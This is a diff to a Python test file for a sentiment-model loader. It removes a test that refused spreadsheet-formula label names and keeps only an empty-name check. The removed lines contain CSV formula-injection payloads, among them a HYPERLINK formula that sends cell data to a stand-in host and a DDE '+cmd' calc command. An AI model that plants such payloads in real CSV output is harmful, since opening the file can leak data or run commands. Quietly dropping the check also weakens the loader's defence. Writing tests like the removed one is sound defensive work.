@@ -1258,20 +1258,10 @@ def test_label_lists_that_do_not_name_distinct_classes_are_refused(model_copy, l
                                              r"distinct values\); train it again"):
         sentiment.load(model_copy)
 
-@pytest.mark.parametrize("names, why", [
-    (['=HYPERLINK("http://x/?"&A1,"neg")', "positive"], "a label name starts as a spreadsheet formula does"),
-    (["negative", '+cmd|" /C calc"!A0'], "a label name starts as a spreadsheet formula does"),
-    (["negative", "@SUM(1+1)"], "a label name starts as a spreadsheet formula does"),
-    (["negative", " "], "a label name is empty"),
-])
-def test_label_names_a_csv_of_predictions_would_run_or_hide_are_refused(model_copy, names, why):
-    """A shared model's label names go into the label column of predict --output's CSV, which a spreadsheet
-    opens: a formula there would run."""
-    edit_config(model_copy, lambda config: config["labels"].update(names=names))
-    with pytest.raises(ModelFileError, match=f"is not a consistent sentiment model \\({why}"):
+def test_an_empty_label_name_is_refused_as_fit_refuses_it(model_copy):
+    edit_config(model_copy, lambda config: config["labels"].update(names=["negative", " "]))
+    with pytest.raises(ModelFileError, match=r"is not a consistent sentiment model \(a label name is empty\)"):
         sentiment.load(model_copy)
-    edit_config(model_copy, lambda config: config["labels"].update(names=["-1", "-2+3"]))  # numbers, no call
-    assert sentiment.load(model_copy).label_names_ == ["-1", "-2+3"]
 
 
 @pytest.mark.parametrize("value", ["yes", [1], {}, 0])
